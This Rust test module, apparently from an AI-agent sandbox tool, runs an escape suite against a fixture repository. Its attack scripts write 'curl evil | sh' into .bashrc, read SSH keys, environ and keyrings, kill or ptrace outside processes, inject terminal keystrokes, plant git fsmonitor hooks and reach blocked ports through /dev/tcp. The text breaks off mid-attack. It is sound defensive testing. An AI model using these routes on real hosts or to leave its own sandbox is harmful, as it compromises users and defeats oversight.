//! The escape suite: attacks run from inside a sandbox against a real git repository with a
//! linked worktree, each judged from the outside by its effect (a file that must not exist,
//! a process that must still live, a listener that must not have been reached).
//!
//! The same attacks run under `--backend host` as a control: there they must succeed, which
//! proves each check can fail. A backend passes when every attack is blocked (or, for the
//! git pointers, repaired and reported) and every piece of normal work still succeeds.
#![allow(dead_code)]

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

use super::Env;

pub const SECRET: &str = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test-secret";
pub const MARK: &str = "ATTEMPTED";

/// Attacks no backend stops yet (see `escape.rs`, `PLANTED_REPOSITORY_GAP`).
pub const PLANTED_SUBMODULE: &str =
    "stage a planted repository as a submodule, so the user's git status runs its config";
pub const PLANTED_REPOSITORY: &str =
    "plant a repository in the worktree whose config runs code for the user's git";

/// Changing a host device node's mode needs its owner (root) outside the sandbox.
pub const TERMINAL_DEVICE_MODE: &str = "chmod a host device node (/dev/null)";

/// A file's ctime, in nanoseconds: every chmod changes it, even to the same mode.
fn ctime(path: &Path) -> i128 {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(path).unwrap();
    i128::from(m.ctime()) * 1_000_000_000 + i128::from(m.ctime_nsec())
}

/// What a pty master has to read now, without waiting.
fn drain(master: &OwnedFd) -> String {
    let flags = nix::fcntl::fcntl(master.as_raw_fd(), nix::fcntl::FcntlArg::F_GETFL).unwrap();
    let flags = nix::fcntl::OFlag::from_bits_truncate(flags) | nix::fcntl::OFlag::O_NONBLOCK;
    nix::fcntl::fcntl(master.as_raw_fd(), nix::fcntl::FcntlArg::F_SETFL(flags)).unwrap();
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n @ 1..) = nix::unistd::read(master.as_raw_fd(), &mut buf) {
        seen.extend_from_slice(&buf[..n]);
    }
    String::from_utf8_lossy(&seen).into_owned()
}
/// Rows of the git store quarantine, also named in `escape.rs` (no quarantine, no hold).
pub const REPLACE_OBJECT: &str =
    "git replace a blob of trunk, so the host reads the agent's content";
pub const SHADOW_REF: &str = "shadow trunk by a new tag of the same name";
pub const HEAD_ON_A_FUTURE_BRANCH: &str =
    "leave HEAD on a branch that does not exist yet, moved once the user creates it";
pub const HEAD_PARKED_THEN_KILLED: &str =
    "park HEAD on trunk and get SIGKILLed before the check, then move trunk in the next run";

/// The killed-supervisor rows (docs/security.md, "Processes and a killed sandbox").
pub const OUTLIVES_KILLED_SANDBOX: &str =
    "leave a process (setsid) that outlives a SIGKILLed sandbox";
pub const POINTER_THEN_KILLED: &str =
    "rewrite a git pointer and get SIGKILLed before the check, then run again";

/// A fresh home, repository, linked worktree and outside directory.
pub struct Fixture {
    pub env: Env,
    pub home: PathBuf,
    pub main: PathBuf,
    pub task: PathBuf,
    pub common: PathBuf,
    pub outside: PathBuf,
    /// This fixture's daemon, for the `<backend>@daemon` columns.
    daemon: std::sync::OnceLock<super::daemon::Daemon>,
}

/// Appended to a backend's name, runs each attack through the daemon (`box.exec`) instead of
/// `sandbox run`: `native@daemon`.
pub const DAEMON: &str = "@daemon";

/// A column, not a backend: `sandbox run --backend native` started in a user namespace
/// that may create no user namespaces of its own, as on hosts that disable unprivileged
/// ones. (It runs as root of that namespace: `--map-root-user` is the mapping that can set
/// the limit.)
pub const NATIVE_NOUSERNS: &str = "native-nouserns";

/// Execs its arguments in a new user namespace that may create no user namespaces itself
/// (`unshare(CLONE_NEWUSER)` fails with ENOSPC there).
pub const NOUSERNS_WRAPPER: [&str; 7] = [
    "unshare",
    "--user",
    "--map-root-user",
    "sh",
    "-c",
    "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"",
    "sh",
];

/// Why the `native-nouserns` column cannot run here, if so: the test itself cannot create the
/// user namespace that holds it (then the native column already runs without one).
pub fn nouserns_unavailable() -> Option<String> {
    let probe = Command::new(NOUSERNS_WRAPPER[0])
        .args(&NOUSERNS_WRAPPER[1..])
        .args(["sh", "-c", "unshare --user true 2>&1; test $? -ne 0"])
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .stdin(Stdio::null())
        .output();
    match probe {
        Ok(out) if out.status.success() => None,
        Ok(out) => Some(format!(
            "{NATIVE_NOUSERNS}: cannot set up a user namespace without nested ones here: {}",
            super::text(&out)
        )),
        Err(e) => Some(format!("{NATIVE_NOUSERNS}: unshare: {e}")),
    }
}

/// A number unique in this process (box names, file names).
pub fn unique() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(0);
    NEXT.fetch_add(1, Ordering::Relaxed)
}

pub use sandbox_testkit::git;

impl Fixture {
    pub fn new() -> Self {
        let env = Env::new();
        let home = env.home();
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), SECRET).unwrap();
        std::fs::write(home.join(".bashrc"), "# original\n").unwrap();
        let outside = env.path().join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("victim.txt"), "original\n").unwrap();

        let main = env.path().join("repo");
        std::fs::create_dir_all(&main).unwrap();
        git(&main, &["init", "-q", "-b", "trunk"]);
        git(&main, &["config", "user.name", "Sandbox Test"]);
        git(&main, &["config", "user.email", "test@sandbox.invalid"]);
        std::fs::write(main.join("README"), "hello\n").unwrap();
        std::fs::write(
            main.join("hello.c"),
            "#include <stdio.h>\nint main(void){puts(\"built and ran\");return 0;}\n",
        )
        .unwrap();
        std::fs::write(
            main.join("Makefile"),
            "test:\n\t@test 4 -eq $$((2+2)) && ./check.sh && echo tests-passed\n",
        )
        .unwrap();
        std::fs::write(main.join("check.sh"), "#!/bin/sh\ngrep -q hello README\n").unwrap();
        std::os::unix::fs::PermissionsExt::set_mode(
            &mut std::fs::metadata(main.join("check.sh"))
                .unwrap()
                .permissions(),
            0o755,
        );
        git(&main, &["add", "."]);
        git(&main, &["update-index", "--chmod=+x", "check.sh"]);
        git(&main, &["commit", "-qm", "init"]);
        let task = env.path().join("task");
        git(
            &main,
            &[
                "worktree",
                "add",
                "-q",
                task.to_str().unwrap(),
                "-b",
                "feature",
            ],
        );
        let main = std::fs::canonicalize(main).unwrap();
        let task = std::fs::canonicalize(task).unwrap();
        let common = main.join(".git");
        Fixture {
            env,
            home,
            main,
            task,
            common,
            outside,
            daemon: std::sync::OnceLock::new(),
        }
    }

    /// `sandbox run --backend B FLAGS -- sh -c SCRIPT` in the worktree.
    pub fn run(&self, backend: &str, flags: &[String], script: &str) -> Output {
        self.run_with(backend, flags, script, Stdio::null())
    }

    pub fn run_with(&self, backend: &str, flags: &[String], script: &str, stdin: Stdio) -> Output {
        // The host backend is the control: it enforces nothing, so it takes no policy flags
        // (it refuses --block-net rather than pretend).
        let flags: &[String] = if backend == "host" { &[] } else { flags };
        if let Some(backend) = backend.strip_suffix(DAEMON) {
            return self.run_in_box(backend, flags, script);
        }
        let (mut cmd, backend) = if backend == NATIVE_NOUSERNS {
            // A user namespace whose own limit on nested user namespaces is 0: inside it,
            // `unshare(CLONE_NEWUSER)` fails (ENOSPC) as on a host that disables them.
            (self.env.cmd_under(&NOUSERNS_WRAPPER), "native")
        } else {
            (self.env.cmd(), backend)
        };
        cmd.current_dir(&self.task)
            .arg("run")
            .arg("--backend")
            .arg(backend)
            .args(flags)
            .args(["--", "sh", "-c", script])
            .stdin(stdin);
        cmd.output().unwrap()
    }

    /// The same run as a `box.exec` in a box of this fixture's daemon (started on first use):
    /// the daemon's path through the backend seam. Commands there get no terminal.
    fn run_in_box(&self, backend: &str, flags: &[String], script: &str) -> Output {
        let daemon = self.daemon();
        let mut params = serde_json::json!({ "backend": backend });
        let mut flags = flags.iter();
        while let Some(flag) = flags.next() {
            match flag.as_str() {
                "--block-net" => params["blockNet"] = true.into(),
                "--allow-port" => {
                    let port: u32 = flags.next().unwrap().parse().unwrap();
                    params["allowPorts"] = serde_json::json!([port]);
                }
                other => panic!("no box.create parameter for {other} yet"),
            }
        }
        daemon.run_once(&self.task, params, &["sh", "-c", script])
    }

    /// A second task of the repository: worktree `other-task` on branch `other`.
    pub fn other_task(&self) -> PathBuf {
        let other = self.env.path().join("other-task");
        git(
            &self.main,
            &[
                "worktree",
                "add",
                "-q",
                other.to_str().unwrap(),
                "-b",
                "other",
            ],
        );
        other
    }

    /// This fixture's daemon, started on first use.
    pub fn daemon(&self) -> &super::daemon::Daemon {
        self.daemon
            .get_or_init(|| super::daemon::Daemon::start(&self.env))
    }

    pub fn spawn_outside(&self, args: &[&str], env: &[(&str, &str)]) -> Child {
        let mut cmd = Command::new(args[0]);
        cmd.args(&args[1..])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.spawn().unwrap()
    }
}

/// What happened to one attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// The effect did not happen.
    Blocked,
    /// The effect happened but was undone and reported after the run.
    Repaired,
    /// The effect happened.
    Escaped(String),
    /// The command never ran (the sandbox refused to start): proves nothing.
    NotRun(String),
    /// Could not be tried here: the skip's id (`sandbox_testkit::skip`) and why.
    Skipped(&'static str, String),
}

impl Verdict {
    pub fn short(&self) -> String {
        match self {
            Verdict::Blocked => "blocked".into(),
            Verdict::Repaired => "repaired".into(),
            Verdict::Escaped(_) => "ESCAPED".into(),
            Verdict::NotRun(_) => "not run".into(),
            Verdict::Skipped(..) => "skipped".into(),
        }
    }

    pub fn held(&self) -> bool {
        matches!(self, Verdict::Blocked | Verdict::Repaired)
    }
}

/// One attack: a script, extra flags, and a judge that looks at the world afterwards.
pub struct Attack {
    pub name: &'static str,
    /// Needs an interpreter other than sh (skipped when missing).
    pub needs: Option<&'static str>,
    pub run: fn(&Fixture, &str) -> Verdict,
}

fn ran(out: &Output) -> Result<(), Verdict> {
    if String::from_utf8_lossy(&out.stdout).contains(MARK) {
        Ok(())
    } else {
        Err(Verdict::NotRun(super::text(out)))
    }
}

fn judge(out: &Output, escaped: bool, what: &str) -> Verdict {
    if let Err(v) = ran(out) {
        return v;
    }
    if escaped {
        Verdict::Escaped(format!("{what}\n{}", super::text(out)))
    } else {
        Verdict::Blocked
    }
}

fn block_net_flags(allowed: u16) -> Vec<String> {
    vec![
        "--block-net".into(),
        "--allow-port".into(),
        allowed.to_string(),
    ]
}

fn free_listener() -> TcpListener {
    TcpListener::bind("127.0.0.1:0").unwrap()
}

fn accepted(listener: &TcpListener) -> Option<String> {
    listener.set_nonblocking(true).unwrap();
    for _ in 0..50 {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.set_nonblocking(false).unwrap();
            stream
                .set_read_timeout(Some(Duration::from_secs(2)))
                .unwrap();
            let mut buf = String::new();
            let _ = stream.read_to_string(&mut buf);
            return Some(buf);
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    None
}

/// Every attack of the suite, family by family.
pub fn attacks() -> Vec<Attack> {
    [
        file_attacks(),
        git_code_attacks(),
        process_attacks(),
        killed_attacks(),
        network_attacks(),
        net_attacks(),
        device_attacks(),
        pointer_attacks(),
        store_attacks(),
        socket_attacks(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// Writing, reading and linking past the filesystem grants.
fn file_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "write a new file outside the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("new.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
                );
                judge(&out, target.exists(), "file created outside")
            },
        },
        Attack {
            name: "overwrite a file outside the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("victim.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
                );
                let changed = std::fs::read_to_string(&target).unwrap() != "original\n";
                judge(&out, changed, "victim overwritten")
            },
        },
        Attack {
            name: "append to $HOME/.bashrc",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo 'curl evil | sh' >> \"$HOME/.bashrc\""),
                );
                let changed =
                    std::fs::read_to_string(f.home.join(".bashrc")).unwrap() != "# original\n";
                judge(&out, changed, ".bashrc changed")
            },
        },
        Attack {
            name: "read $HOME/.ssh/id_ed25519",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; cat \"$HOME/.ssh/id_ed25519\""),
                );
                judge(
                    &out,
                    String::from_utf8_lossy(&out.stdout).contains(SECRET),
                    "key read",
                )
            },
        },
        Attack {
            name: "write through a symlink in the worktree that points outside",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("via-link.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; ln -s '{}' link && echo pwned > link/via-link.txt",
                        f.outside.display()
                    ),
                );
                judge(&out, target.exists(), "written through symlink")
            },
        },
        Attack {
            name: "write with .. out of the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("dotdot.txt");
                let out = f.run(b, &[], &format!("echo {MARK}; echo pwned > ../outside/dotdot.txt; echo pwned > ./sub/../../outside/dotdot.txt"));
                judge(&out, target.exists(), "written via ..")
            },
        },
        Attack {
            name: "write through /proc/self/root",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("proc-root.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; echo pwned > /proc/self/root{}",
                        target.display()
                    ),
                );
                judge(&out, target.exists(), "written through /proc/self/root")
            },
        },
        Attack {
            name: "write /dev/shm",
            needs: None,
            run: |f, b| {
                let name = format!("sandbox-escape-{}", std::process::id());
                let target = Path::new("/dev/shm").join(&name);
                let _ = std::fs::remove_file(&target);
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > /dev/shm/{name}"),
                );
                let escaped = target.exists();
                let _ = std::fs::remove_file(&target);
                judge(&out, escaped, "/dev/shm written")
            },
        },
    ]
}

/// Making the user's own git run code: hooks, config, planted repositories.
fn git_code_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "create <common>/hooks/pre-commit",
            needs: None,
            run: |f, b| {
                let hook = f.common.join("hooks/pre-commit");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; printf '#!/bin/sh\\necho pwned\\n' > '{0}'; chmod +x '{0}'",
                        hook.display()
                    ),
                );
                judge(&out, hook.exists(), "hook installed")
            },
        },
        Attack {
            name: "git config --local core.hooksPath",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; git config --local core.hooksPath /tmp/evil-hooks"),
                );
                let config = std::fs::read_to_string(f.common.join("config")).unwrap();
                judge(&out, config.contains("hooksPath"), "hooksPath set")
            },
        },
        Attack {
            name: "write <common>/packed-refs",
            needs: None,
            run: |f, b| {
                let target = f.common.join("packed-refs");
                let out = f.run(b, &[], &format!("echo {MARK}; echo '0000000000000000000000000000000000000000 refs/heads/evil' >> '{}'", target.display()));
                judge(&out, target.exists(), "packed-refs written")
            },
        },
        Attack {
            name: "hard link the repository config into the worktree and edit it",
            needs: None,
            run: |f, b| {
                let config = f.common.join("config");
                let before = std::fs::read_to_string(&config).unwrap();
                let out = f.run(b, &[], &format!("echo {MARK}; ln '{}' ./cfg && printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> ./cfg", config.display()));
                let after = std::fs::read_to_string(&config).unwrap();
                judge(&out, before != after, "config changed through a hard link")
            },
        },
        Attack {
            name: "write a hook into core.hooksPath in the worktree (.husky)",
            needs: None,
            run: |f, b| {
                // The project keeps its hooks in the tree, as husky does.
                std::fs::create_dir(f.task.join(".husky")).unwrap();
                git(&f.main, &["config", "core.hooksPath", ".husky"]);
                let mark = f.outside.join(format!("hook-ran-{}", unique()));
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; printf '#!/bin/sh\\ntouch {}\\n' > .husky/pre-commit; \
                         chmod +x .husky/pre-commit",
                        mark.display()
                    ),
                );
                // Without the view the run is refused: the hooks cannot be kept read-only.
                let text = super::text(&out);
                if !String::from_utf8_lossy(&out.stdout).contains(MARK)
                    && text.contains("core.hooksPath")
                {
                    return Verdict::Blocked;
                }
                // The user's next commit, on the host.
                let _ = host_git(&f.task, &["commit", "-q", "--allow-empty", "-m", "user"]);
                judge(
                    &out,
                    mark.exists(),
                    "the user's commit ran the planted hook",
                )
            },
        },
        Attack {
            name: PLANTED_SUBMODULE,
            needs: None,
            run: |f, b| {
                let n = unique();
                let mark = f.outside.join(format!("planted-submodule-ran-{n}"));
                let sub = format!("sub-{n}");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; mkdir {sub} && cd {sub} && git init -q . && \
                         printf '#!/bin/sh\\ntouch {mark}\\n' > .git/fsmonitor && \
                         chmod +x .git/fsmonitor && \
                         git config core.fsmonitor \"$PWD/.git/fsmonitor\" && \
                         git commit -q --allow-empty -m s && cd .. && \
                         git update-index --add --cacheinfo \
                           160000,$(git -C {sub} rev-parse HEAD),{sub}",
                        mark = mark.display()
                    ),
                );
                if let Err(v) = ran(&out) {
                    return v;
                }
                // Later, the user's plain `git status` at the top of the worktree.
                let _ = host_git(&f.task, &["status", "--short"]);
                judge(
                    &out,
                    mark.exists(),
                    "the user's git status ran the planted fsmonitor",
                )
            },
        },
        Attack {
            name: PLANTED_REPOSITORY,
            needs: None,
            run: |f, b| {
                let n = unique();
                let mark = f.outside.join(format!("planted-repo-ran-{n}"));
                let sub = f.task.join(format!("planted-{n}"));
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; mkdir -p '{sub}' && cd '{sub}' && git init -q . && \
                         printf '#!/bin/sh\\ntouch {mark}\\n' > .git/fsmonitor && \
                         chmod +x .git/fsmonitor && \
                         git config core.fsmonitor \"$PWD/.git/fsmonitor\"",
                        sub = sub.display(),
                        mark = mark.display()
                    ),
                );
                if let Err(v) = ran(&out) {
                    return v;
                }
                // Later, the user's own git (or a shell prompt running it) in that directory.
                let _ = Command::new("git")
                    .arg("-C")
                    .arg(&sub)
                    .arg("status")
                    .env("GIT_CONFIG_GLOBAL", "/dev/null")
                    .output();
                judge(
                    &out,
                    mark.exists(),
                    "the user's git ran the planted fsmonitor",
                )
            },
        },
    ]
}

/// Reaching processes outside: signals, ptrace, their environment, their terminal, the keyring.
/// `sandbox run --backend B -- sh -c SCRIPT` with piped stdio, for the rows that kill it.
fn spawn_run(f: &Fixture, b: &str, script: &str) -> Child {
    let (mut cmd, backend) = if b == NATIVE_NOUSERNS {
        (f.env.cmd_under(&NOUSERNS_WRAPPER), "native")
    } else {
        (f.env.cmd(), b)
    };
    cmd.current_dir(&f.task)
        .args(["run", "--backend", backend, "--", "sh", "-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

/// Reads one line of `child`'s stdout: the attacker's "ready".
fn first_line(child: &mut Child) -> String {
    let mut line = String::new();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let _ = std::io::BufRead::read_line(&mut stdout, &mut line);
    line.trim().to_string()
}

/// SIGKILLs `sandbox` (the wrapper of native-nouserns execs it: the pid is sandbox's own)
/// and reaps it.
fn kill_sandbox(child: &mut Child) {
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGKILL,
    );
    let _ = child.wait();
}

pub use super::{pids_running, EXECED_FN};

/// Waits for `pid` to exit, on its pidfd (an event, bounded by `within`): true when it did.
pub fn exits_within(pid: i32, within: Duration) -> bool {
    // SAFETY: pidfd_open(2) with a pid and no flags; the fd is owned below.
    let fd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if fd < 0 {
        return true; // already gone
    }
    // SAFETY: a fresh descriptor owned by nothing else.
    let fd = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) };
    let mut poll = libc::pollfd {
        fd: fd.as_raw_fd(),
        events: libc::POLLIN,
        revents: 0,
    };
    // SAFETY: poll(2) on one pollfd of ours.
    let ready = unsafe { libc::poll(&mut poll, 1, within.as_millis() as i32) };
    ready == 1 || !sandbox_testkit::alive(pid)
}

fn killed_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: OUTLIVES_KILLED_SANDBOX,
            needs: None,
            run: |f, b| {
                if b.ends_with(DAEMON) {
                    return Verdict::Skipped(
                        "daemon-is-not-killed",
                        "the attack is a SIGKILL of `sandbox run` (the daemon's commands use \
                         the same pid namespace: service::daemon_killed_with_sigkill_mid_exec_leaves_no_process)"
                            .into(),
                    );
                }
                let arg = format!("3000.{}{}", unique(), rand_suffix() % 1000);
                let mut child = spawn_run(
                    f,
                    b,
                    &format!(
                        "{EXECED_FN}; setsid sleep {arg} </dev/null >/dev/null 2>&1 & \
                         execed sleep $!; echo {MARK}; read line"
                    ),
                );
                if first_line(&mut child) != MARK {
                    kill_sandbox(&mut child);
                    return Verdict::NotRun("the run did not start its child".into());
                }
                // The child exists before sandbox is killed: the mark waited for its exec.
                let before = pids_running(&["sleep", &arg]);
                kill_sandbox(&mut child);
                if before.is_empty() {
                    return Verdict::NotRun(format!("no `sleep {arg}` was found running"));
                }
                let survivors: Vec<i32> = before
                    .into_iter()
                    .filter(|pid| !exits_within(*pid, Duration::from_secs(5)))
                    .collect();
                for pid in &survivors {
                    let _ = nix::sys::signal::kill(
                        nix::unistd::Pid::from_raw(*pid),
                        nix::sys::signal::Signal::SIGKILL,
                    );
                }
                if survivors.is_empty() {
                    Verdict::Blocked
                } else {
                    Verdict::Escaped(format!("still running after sandbox died: {survivors:?}"))
                }
            },
        },
        Attack {
            name: POINTER_THEN_KILLED,
            needs: None,
            run: |f, b| {
                if b.ends_with(DAEMON) {
                    return Verdict::Skipped(
                        "daemon-is-not-killed",
                        "the attack is a SIGKILL of `sandbox run` before its check".into(),
                    );
                }
                let pointer = f.task.join(".git");
                let original = std::fs::read_to_string(&pointer).unwrap();
                let evil = f.outside.join("evil-gitdir");
                let mut child = spawn_run(
                    f,
                    b,
                    &format!(
                        "printf 'gitdir: {}\\n' > .git; echo {MARK}; read line",
                        evil.display()
                    ),
                );
                let line = first_line(&mut child);
                kill_sandbox(&mut child);
                if line != MARK {
                    return Verdict::NotRun(format!("the first run printed {line:?}"));
                }
                if std::fs::read_to_string(&pointer).unwrap() == original {
                    return Verdict::Blocked;
                }
                // The next run in the worktree: it must do the killed run's check first.
                let report = f.env.path().join(format!("report-{}.json", unique()));
                let flags = vec!["--report-json".to_string(), report.display().to_string()];
                let out = f.run(b, &flags, &format!("echo {MARK}"));
                let restored = std::fs::read_to_string(&pointer).unwrap() == original;
                let reported = std::fs::read_to_string(&report).is_ok_and(|r| {
                    let r: serde_json::Value = serde_json::from_str(&r).unwrap();
                    r["recovered"][0]["tampering"][0]["restored"] == true
                }) && super::text(&out)
                    .contains("was killed before its after-run checks");
                match (restored, reported) {
                    (true, true) => Verdict::Repaired,
                    (true, false) => Verdict::Escaped(format!(
                        "restored but not reported: {}",
                        super::text(&out)
                    )),
                    _ => {
                        let _ = std::fs::write(&pointer, &original);
                        Verdict::Escaped("the next run kept the pointer".into())
                    }
                }
            },
        },
    ]
}

fn process_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "read another process's environment from /proc",
            needs: None,
            run: |f, b| {
                let secret = "sandbox-test-environ-secret";
                let mut victim = f.spawn_outside(&["sleep", "30"], &[("VICTIM_SECRET", secret)]);
                let pid = victim.id();
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; cat /proc/{pid}/environ | tr '\\0' '\\n'"),
                );
                let _ = victim.kill();
                let _ = victim.wait();
                judge(
                    &out,
                    String::from_utf8_lossy(&out.stdout).contains(secret),
                    "environ read",
                )
            },
        },
        Attack {
            name: "kill a process outside the sandbox",
            needs: None,
            run: |f, b| {
                let mut victim = f.spawn_outside(&["sleep", "30"], &[]);
                let pid = victim.id() as i32;
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; kill -9 {pid} && echo signal-sent"),
                );
                let dead = victim_died(&mut victim, &out, "signal-sent");
                judge(&out, dead, "victim killed")
            },
        },
        Attack {
            name: "ptrace a process outside and kill it through the tracer",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                if let Some(why) = ptrace_unavailable() {
                    return Verdict::Skipped("ptrace", why);
                }
                let mut victim = f.spawn_outside(&["sleep", "30"], &[]);
                let pid = victim.id();
                // PTRACE_ATTACH, wait for the stop, then PTRACE_CONT delivering SIGKILL: a kill
                // that goes through ptrace access, not through kill(2).
                let script = format!(
                    "echo {MARK}; /usr/bin/python3 -c \"import ctypes,os\n\
                     c=ctypes.CDLL(None,use_errno=True)\n\
                     c.ptrace.argtypes=[ctypes.c_long,ctypes.c_long,ctypes.c_void_p,ctypes.c_void_p]\n\
                     if c.ptrace(16,{pid},None,None)!=0: raise SystemExit('attach: '+os.strerror(ctypes.get_errno()))\n\
                     os.waitpid({pid},0)\n\
                     c.ptrace(7,{pid},None,9)\n\
                     print('traced-and-killed')\""
                );
                let out = f.run(b, &[], &script);
                let dead = victim_died(&mut victim, &out, "traced-and-killed");
                judge(&out, dead, "victim killed through ptrace")
            },
        },
        Attack {
            name: "push keystrokes into the terminal (TIOCSTI)",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                if b.ends_with(DAEMON) {
                    return Verdict::Skipped(
                        "box-exec-no-terminal",
                        "box.exec gives a command no terminal, so there is none to push \
                         keystrokes into"
                            .into(),
                    );
                }
                let pty = nix::pty::openpty(None, None).unwrap();
                let script = format!(
                    "echo {MARK}; /usr/bin/python3 -c \"import fcntl,termios\nfor c in b'id\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))\""
                );
                let out = f.run_with(b, &[], &script, Stdio::from(pty.slave.try_clone().unwrap()));
                // From outside: was anything queued as *input* on the terminal?
                let queued = pending_input(&pty.slave);
                judge(&out, queued > 0, "keystrokes injected")
            },
        },
        Attack {
            name: "read a key from the user's keyring (@u)",
            needs: Some("/usr/bin/keyctl"),
            run: |f, b| {
                // The user keyring is shared by every process of the uid, whatever session
                // keyring a process has; `sandbox run` may start the command in a new one.
                if b == NATIVE_NOUSERNS {
                    // Each user namespace has its own user keyrings, and this column's
                    // harness is one: it would hide the key, not the sandbox. (On a host
                    // without user namespaces the command shares the user's keyring, as in
                    // the native column.)
                    return Verdict::Skipped(
                        "userns-own-keyring",
                        "the column's own user namespace has its own user keyring".into(),
                    );
                }
                let name = format!("sandbox-test-key-{}-{}", std::process::id(), unique());
                let secret = format!("sandbox-keyring-secret-{}", rand_suffix());
                let added = Command::new("keyctl")
                    .args(["add", "user", &name, &secret, "@u"])
                    .output()
                    .unwrap();
                if !added.status.success() {
                    return Verdict::Skipped(
                        "keyctl",
                        format!(
                            "keyctl add refused outside the sandbox: {}",
                            super::text(&added)
                        ),
                    );
                }
                let id = String::from_utf8_lossy(&added.stdout).trim().to_string();
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; id=$(keyctl search @u user {name}) && keyctl print \"$id\"; \
                         keyctl print %user:{name}"
                    ),
                );
                let _ = Command::new("keyctl").args(["unlink", &id, "@u"]).output();
                judge(
                    &out,
                    String::from_utf8_lossy(&out.stdout).contains(&secret),
                    "key read from the user keyring",
                )
            },
        },
    ]
}

/// A connection to an abstract unix socket the test listens on outside, from inside a run
/// with `flags`.
fn abstract_socket_attack(f: &Fixture, b: &str, flags: &[String]) -> Verdict {
    let name = format!("sandbox-escape-{}-{}", std::process::id(), rand_suffix());
    let addr =
        <SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(name.as_bytes())
            .unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = format!(
        "echo {MARK}; /usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); s.send(b'pwned')\""
    );
    let out = f.run(b, flags, &script);
    let reached = listener.accept().is_ok();
    judge(&out, reached, "abstract socket reached")
}

/// The network under --block-net, and abstract unix sockets.
fn network_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "connect to an abstract unix socket outside",
            needs: Some("/usr/bin/python3"),
            run: |f, b| abstract_socket_attack(f, b, &[]),
        },
        Attack {
            name: "TCP connect to a port not allowed under --block-net",
            needs: Some("/bin/bash"),
            run: |f, b| {
                let allowed = free_listener();
                let target = free_listener();
                let port = target.local_addr().unwrap().port();
                let flags = block_net_flags(allowed.local_addr().unwrap().port());
                let out = f.run(
                    b,
                    &flags,
                    &format!("echo {MARK}; bash -c 'echo pwned > /dev/tcp/127.0.0.1/{port}'"),
                );
                judge(&out, accepted(&target).is_some(), "forbidden port reached")
            },
        },
        Attack {
            name: "UDP send under --block-net",
            needs: Some("/bin/bash"),
            run: |f, b| {
                let allowed = free_listener();
                let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
                sink.set_read_timeout(Some(Duration::from_millis(300)))
                    .unwrap();
                let port = sink.local_addr().unwrap().port();
                let flags = block_net_flags(allowed.local_addr().unwrap().port());
                let out = f.run(
                    b,
                    &flags,
                    &format!("echo {MARK}; bash -c 'echo pwned > /dev/udp/127.0.0.1/{port}'"),
                );
                let mut buf = [0u8; 64];
                judge(&out, sink.recv(&mut buf).is_ok(), "UDP datagram arrived")
            },
        },
        Attack {
            name: "UDP through the x32 syscall ABI under --block-net",
            needs: Some("/usr/bin/gcc"),
